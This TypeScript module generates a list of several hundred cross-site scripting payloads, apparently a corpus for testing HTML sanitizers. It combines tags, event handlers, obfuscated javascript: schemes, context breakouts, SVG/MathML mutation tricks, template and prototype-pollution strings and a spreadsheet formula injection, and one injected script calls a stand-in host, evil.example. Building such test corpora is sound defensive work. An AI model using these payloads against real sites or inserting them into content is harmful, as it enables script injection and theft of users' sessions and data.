// Five hundred ways in which words have become scripts: every event and every old trick, in every wrapping.
const alarm = ['alert(1)', 'window.caught=1', 'top.caught=1', 'fetch("//evil.example")']
const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
  'iframe',
  'audio src=x',
  'marquee',
  'select autofocus',
]

const withEvents = tags.flatMap((tag) =>
  events.flatMap((event) => alarm.map((script) => `<${tag} ${event}=${script}>`)),
)

const schemes = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java\nscript',
  ' javascript',
  '\u0001javascript',
  'vbscript',
  'data',
  'blob',
  'file',
  'jav&#x61;script',
  'javascript&colon;',
  'feed:javascript',
  'view-source:javascript',
]
const addresses = schemes.flatMap((scheme) =>
  alarm.map((script) => (scheme === 'data' ? `data:text/html,<script>${script}</script>` : `${scheme}:${script}`)),
)

const wrapped = alarm.flatMap((script) => [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `"><script>${script}</script>`,
  `'-${script}-'`,
  `\${${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `</textarea><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${script}></style></mglyph></math>`,
  `<iframe srcdoc="<script>${script}</script>">`,
  `<object data="javascript:${script}">`,
  `<embed src="javascript:${script}">`,
  `<form action="javascript:${script}"><button>x`,
  `<a href="javascript:${script}">x</a>`,
  `<base href="javascript:${script}//">`,
  `<link rel=stylesheet href="javascript:${script}">`,
  `<style>@import "javascript:${script}";</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><script>${script}</script>">`,
  `<!--><script>${script}</script>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `\\u003cscript\\u003e${script}`,
  `[x](javascript:${script})`,
  `![x](x"onerror="${script})`,
  `<xss style="animation-name:x" onanimationstart=${script}>`,
  `onclick=${script}`,
  `__proto__[src]=${script}`,
  `\u202e<script>${script}</script>`,
  `=cmd|'${script}'!A0`,
])

export const payloads: readonly string[] = [...new Set([...addresses, ...wrapped, ...withEvents])]
